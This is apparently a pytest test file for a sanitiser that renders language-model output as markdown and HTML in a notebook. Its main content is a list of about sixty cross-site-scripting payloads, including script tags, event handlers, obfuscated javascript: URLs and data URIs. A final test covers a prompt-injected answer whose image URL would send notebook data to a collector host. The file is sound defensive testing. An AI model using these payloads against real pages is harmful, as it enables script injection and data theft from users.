"""Model output must never run script in the page: hostile inputs through every HTML path.

Every corpus test runs on each sanitiser backend (nh3; justhtml, the Pyodide path;
escape, the last resort), forced in-process with ``sanitize.use_backend``.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest

from aimo_magic.emulator.samples import HOSTILE_MARKDOWN
from aimo_magic.rendering import sanitize
from aimo_magic.rendering.bundles import code_bundle, html_bundle, markdown_bundle, render_bundle
from aimo_magic.rendering.markdown import render_markdown
from aimo_magic.rendering.sanitize import STYLE_PROPERTIES, clean_rendered, clean_untrusted

ALL_BACKENDS = sanitize.BACKENDS
RENDERING_BACKENDS = ("nh3", "justhtml")  # the ones that keep formatting


@pytest.fixture(params=ALL_BACKENDS)
def backend(request: pytest.FixtureRequest) -> Iterator[str]:
    """Every sanitiser in turn; the test fails if the one asked for is not the one used."""
    assert sanitize.use_backend(request.param).name == request.param
    yield request.param
    sanitize.use_backend(None)


@pytest.fixture(params=RENDERING_BACKENDS)
def renderer(request: pytest.FixtureRequest) -> Iterator[str]:
    assert sanitize.use_backend(request.param).name == request.param
    yield request.param
    sanitize.use_backend(None)


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<style>body { display: none }</style>",
    '<p style="position:fixed;top:0;left:0;width:100%">overlay</p>',
    '<span style="background:url(javascript:alert(1))">bg</span>',
    '<a href="javascript:alert(1)">js</a>',
    '<a href="java&#x73;cript:alert(1)">entity</a>',
    '<a href="&#106;&#97;vascript:alert(1)">decimal entities</a>',
    '<a href="jav&#x09;ascript:alert(1)">tab entity</a>',
    '<a href=" javascript:alert(1)">leading space</a>',
    '<a href="JaVaScRiPt:alert(1)">case</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="http://ok.example" onclick="alert(1)">handler</a>',
    '<div onmouseover="alert(1)">hover</div>',
    '<body onload="alert(1)">',
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    '<img """><script>alert(1)</script>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    "<!-- <script>alert(1)</script> -->",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href='javascript&colon;alert(1)'>colon entity</a>",
    "[js](javascript:alert(1))",
    "[js](JAVASCRIPT:alert(1))",
    "[entity](java&#x73;cript:alert(1))",
    "[angle](<javascript:alert(1)>)",
    "[vb](vbscript:msgbox(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "<input type=text autofocus onfocus=alert(1) formaction=javascript:alert(1)>",
    "- [x] <input type=checkbox onclick=alert(1)> boxed",
    "<vbscript:msgbox(1)>",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    '[title](http://ok.example "t\\" onclick=\\"alert(1)")',
    '```python" onload="alert(1)\n<script>alert(1)</script>\n```',
    "`<img src=x onerror=alert(1)>`",
    "$<img src=x onerror=alert(1)>$",
    "$$\n</div><script>alert(1)</script>\n$$",
    "\\(<script>alert(1)</script>\\)",
    "\\[\n<iframe src=javascript:alert(1)>\n\\]",
    "\\begin{align}\n<script>alert(1)</script>\n\\end{align}",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | c |",
    "> <style>*{color:red}</style>\n> quoted",
    "- <svg onload=alert(1)>\n- item",
]

_FORBIDDEN_TAGS = {
    "script", "iframe", "style", "object", "embed", "form", "button", "meta", "base",
    "link", "svg", "math", "body", "frame", "frameset", "textarea", "noscript",
}  # fmt: skip
# A task list's box is the only input allowed: a disabled checkbox, nothing else on it.
_CHECKBOX_ATTRIBUTES = {"type", "disabled", "checked"}
_SAFE_SCHEMES = ("http:", "https:", "mailto:")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def assert_safe(markup: str) -> None:
    lowered = markup.lower()
    assert "<script" not in lowered
    assert "<iframe" not in lowered
    assert "<style" not in lowered
    unquoted = re.sub(r'"[^"]*"', '""', lowered)  # attribute values may mention "onclick="
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", unquoted), markup
    parser = _Collector()
    parser.feed(markup)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in _FORBIDDEN_TAGS, markup
        if tag == "input":
            named = dict(attrs)
            assert named.get("type") == "checkbox" and "disabled" in named, markup
            assert set(named) <= _CHECKBOX_ATTRIBUTES, markup
        for name, value in attrs:
            assert not name.startswith("on"), markup
            if name in ("href", "src", "action", "formaction", "data", "srcdoc"):
                url = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
                scheme = re.match(r"^[a-z][a-z0-9+.-]*:", url)
                assert scheme is None or url.startswith(_SAFE_SCHEMES), markup
            if name == "style":
                for declaration in filter(None, (value or "").split(";")):
                    prop = declaration.split(":", 1)[0].strip().lower()
                    assert prop in STYLE_PROPERTIES, markup
                    assert "url(" not in declaration.lower(), markup


def attributes(markup: str, tag: str) -> list[dict[str, str]]:
    """The attributes of each ``tag`` element, whatever the serialiser's order and spacing."""
    parser = _Collector()
    parser.feed(markup)
    parser.close()
    return [{k: v or "" for k, v in attrs} for name, attrs in parser.tags if name == tag]


def styles(value: str) -> dict[str, str]:
    pairs = (d.split(":", 1) for d in value.split(";") if ":" in d)
    return {k.strip().lower(): v.strip() for k, v in pairs}


@pytest.mark.parametrize("source", HOSTILE)
def test_markdown_rendering_neutralises_hostile_input(backend: str, source: str) -> None:
    assert_safe(markdown_bundle(source)["text/html"])
    assert_safe(markdown_bundle(source, streaming=True)["text/html"])


@pytest.mark.parametrize("source", HOSTILE)
def test_html_format_neutralises_hostile_input(backend: str, source: str) -> None:
    markup = html_bundle(source)["text/html"]
    assert_safe(markup)
    assert "style=" not in markup.lower()


@pytest.mark.parametrize("source", HOSTILE)
def test_sanitisers_neutralise_hostile_html_directly(backend: str, source: str) -> None:
    """Straight into the cleaners, past markdown-it's escaping: the second wall alone."""
    assert_safe(sanitize.clean_rendered(source))
    assert_safe(sanitize.clean_untrusted(source))


def test_the_emulators_hostile_answer_is_inert(backend: str) -> None:
    for fmt in ("markdown", "html"):
        for final in (False, True):
            assert_safe(render_bundle(HOSTILE_MARKDOWN, fmt, final=final)["text/html"])
    assert "alert(1)" in markdown_bundle(HOSTILE_MARKDOWN)["text/html"], "kept, as text"


@pytest.mark.parametrize("fmt", ["text", "code", "json", "math"])
def test_other_formats_never_emit_live_markup(backend: str, fmt: str) -> None:
    corpus = "\n\n".join(HOSTILE)
    for final in (False, True):
        try:
            bundle = render_bundle(corpus, fmt, final=final)
        except ValueError:
            continue  # json: the corpus is not JSON, which is its own test
        if "text/html" in bundle:
            assert_safe(bundle["text/html"])


def test_hostile_text_stays_visible_as_text(backend: str) -> None:
    markup = render_markdown("Look: <script>alert(1)</script> and [x](javascript:alert(1))")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in markup
    assert "<a" not in markup


def test_links_are_hardened_and_kept(renderer: str) -> None:
    markup = render_markdown("[docs](https://docs.example/a?b=1&c=2)")
    assert 'href="https://docs.example/a?b=1&amp;c=2"' in markup
    (link,) = attributes(markup, "a")
    assert set(link["rel"].split()) == {"noopener", "noreferrer", "nofollow"}
    assert link["target"] == "_blank"


def test_raw_html_in_markdown_is_escaped_not_rendered(backend: str) -> None:
    markup = render_markdown('<b onclick="x">bold?</b>\n\n<div>block</div>')
    assert "<b" not in markup and "<div>block" not in markup
    assert "&lt;b onclick=" in markup


def test_html_format_keeps_harmless_markup(renderer: str) -> None:
    markup = html_bundle('<h2>Title</h2><table><tr><td colspan="2">cell</td></tr></table>')[
        "text/html"
    ]
    assert "<h2>Title</h2>" in markup
    assert '<td colspan="2">cell</td>' in markup


def test_html_format_unwraps_a_fenced_answer(renderer: str) -> None:
    markup = html_bundle("Here you go:\n```html\n<p>hi <em>there</em></p>\n```\n")["text/html"]
    assert markup.strip() == "<p>hi <em>there</em></p>"


def test_markdown_features_render(renderer: str) -> None:
    source = "\n".join(
        [
            "# Heading one",
            "## Heading two",
            "",
            "- bullet *one*",
            "- bullet **two**",
            "",
            "1. first",
            "2. second",
            "",
            "| left | right |",
            "|:-----|------:|",
            "| a    | ~~b~~ |",
            "",
            "```python",
            "def square(x):",
            "    return x * x",
            "```",
        ]
    )
    markup = render_markdown(source)
    assert "<h1>Heading one</h1>" in markup and "<h2>Heading two</h2>" in markup
    assert "<ul>" in markup and "<em>one</em>" in markup and "<strong>two</strong>" in markup
    assert "<ol>" in markup and "<li>second</li>" in markup
    assert [styles(th.get("style", "")) for th in attributes(markup, "th")] == [
        {"text-align": "left"},
        {"text-align": "right"},
    ]
    assert re.search(r"<td[^>]*><s>b</s></td>", markup)
    keyword = re.search(r'<span style="([^"]*)">def</span>', markup)
    assert keyword is not None, markup
    assert styles(keyword.group(1)).get("font-weight") == "bold"
    assert re.fullmatch(r"#[0-9A-Fa-f]{6}", styles(keyword.group(1)).get("color", ""))
    # The frontend's opaque ``code`` background would stripe each line of the panel.
    assert {"background-color": "transparent"} in [
        styles(code.get("style", "")) for code in attributes(markup, "code")
    ]


def test_task_lists_render_as_disabled_checkboxes(renderer: str) -> None:
    source = "Plan:\n\n- [x] read the question\n- [ ] try an example\n- plain item\n"
    for markup in (
        render_markdown(source),
        markdown_bundle(source, streaming=True)["text/html"],
        markdown_bundle(source)["text/html"],
    ):
        assert "[x]" not in markup and "[ ]" not in markup
        boxes = attributes(markup, "input")
        assert len(boxes) == 2, markup
        assert all(b.get("type") == "checkbox" and "disabled" in b for b in boxes)
        assert "checked" in boxes[0] and "checked" not in boxes[1]
        assert "read the question</li>" in markup and "<li>plain item</li>" in markup
        assert_safe(markup)


@pytest.mark.parametrize(
    "box",
    [
        '<input type="text" value="x" name="q" autofocus onfocus="alert(1)">',
        '<input type="image" src="https://evil.example/a.png" formaction="javascript:x">',
        '<input type="checkbox" checked="evil" class="x jp-Button">',
        "<input>",
    ],
)
def test_the_sanitiser_keeps_an_input_only_as_a_disabled_checkbox(renderer: str, box: str) -> None:
    (kept,) = attributes(clean_rendered(box), "input")
    assert kept.get("type") == "checkbox" and "disabled" in kept
    assert set(kept) <= {"type", "disabled", "checked"}
    # ``checked`` is a boolean attribute: whatever its value, it only ticks the box.
    assert "<input" not in clean_untrusted(box), "model-written HTML gets no inputs"


def test_styles_on_code_keep_only_harmless_properties(renderer: str) -> None:
    cleaned = clean_rendered(
        '<code style="position:fixed;top:0;background-color:transparent;'
        'background-image:url(https://x.example/a)">x</code>'
    )
    assert [styles(code.get("style", "")) for code in attributes(cleaned, "code")] == [
        {"background-color": "transparent"}
    ]


def test_math_reaches_the_frontend_verbatim(renderer: str) -> None:
    source = (
        "Inline $a_1 * b_2 < c_3 * d$ and \\(e^{i\\pi} + 1 = 0\\) here.\n\n"
        "$$\n\\sum_{i=1}^{n} x_i^2\n$$\n\n"
        "\\[\n\\frac{a}{b} \\\\ c\n\\]\n\n"
        "\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}\n"
    )
    markup = render_markdown(source)
    assert "$a_1 * b_2 &lt; c_3 * d$" in markup
    assert "<em>" not in markup
    assert "\\(e^{i\\pi} + 1 = 0\\)" in markup
    assert "$$\n\\sum_{i=1}^{n} x_i^2\n$$" in markup
    assert "\\[\n\\frac{a}{b} \\\\ c\n\\]" in markup
    assert "a &amp;= b \\\\\nc &amp;= d" in markup


def test_prices_are_not_paired_into_math(renderer: str) -> None:
    markup = render_markdown("It costs $5 and $10 in total.")
    assert markup.count("<span>$</span>") == 2


def test_code_format_highlights_without_fences(renderer: str) -> None:
    bundle = code_bundle("Here:\n```python\nimport os\n```\nDone.")
    assert bundle["text/plain"] == "import os"
    assert "```" not in bundle["text/html"]
    assert ">import</span>" in bundle["text/html"]


def test_images_are_links_never_loaded(renderer: str) -> None:
    """A prompt-injected answer must not make the page fetch a URL carrying notebook data."""
    from aimo_magic.rendering import render_bundle

    for fmt, text in (
        ("markdown", "![chart](https://collector.example/x?data=secret)"),
        ("html", '<img src="https://collector.example/x?data=secret">'),
    ):
        html = render_bundle(text, fmt)["text/html"]
        assert "<img" not in html
    link = render_bundle("![chart](https://collector.example/x.png)", "markdown")["text/html"]
    assert 'href="https://collector.example/x.png"' in link and "chart" in link
